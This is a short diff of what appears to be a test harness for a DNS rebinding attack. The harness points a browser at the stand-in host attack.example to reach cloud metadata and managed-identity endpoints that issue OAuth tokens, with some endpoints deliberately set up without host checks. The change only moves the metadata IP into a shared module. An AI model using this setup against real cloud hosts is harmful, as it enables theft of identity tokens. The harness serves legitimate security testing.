@@ -16,7 +16,6 @@ import world
 from checks import Checks
 
 ROOT, HOME = Path(sys.argv[1]), Path(os.environ["HOME"])
-IMDS = "169.254.169.254"
 RESOLVER, ATTACKER = "127.0.0.53", "127.0.0.66"
 PATIENCE = 150
 EXTENSION = urlsplit(world.vm()["extension"]).port
@@ -25,9 +24,9 @@ IMDS_PATH = f"/metadata/identity/oauth2/token?api-version=2018-02-01&resource={w
 EXTENSION_PATH = f"/oauth2/token?resource={world.ARM}"
 
 TARGETS = {
-    "imds": (IMDS, 80, IMDS_PATH),
+    "imds": (world.IMDS, 80, IMDS_PATH),
     "extension": ("127.0.0.1", EXTENSION, EXTENSION_PATH),
-    "weak-imds": (IMDS, WEAK_IMDS, IMDS_PATH),
+    "weak-imds": (world.IMDS, WEAK_IMDS, IMDS_PATH),
     "weak-extension": ("127.0.0.1", WEAK_EXTENSION, EXTENSION_PATH),
 }
 """Where each name leads at last, and what its page asks for."""
@@ -89,7 +88,7 @@ rebinding.Resolver(RESOLVER, attack.leads)
 rebinding.pages(ATTACKER, 8088, attack.index)
 for name, (_, port, _) in TARGETS.items():
     rebinding.pages(ATTACKER, port, lambda _method, path, _sent, name=name: attack.page(name, path))
-rebinding.without_host_check(IMDS, WEAK_IMDS, IMDS, (IMDS, 80))
+rebinding.without_host_check(world.IMDS, WEAK_IMDS, world.IMDS, (world.IMDS, 80))
 rebinding.without_host_check("127.0.0.1", WEAK_EXTENSION, f"localhost:{EXTENSION}", ("127.0.0.1", EXTENSION))
 
 browser = browse("http://attack.example:8088/")
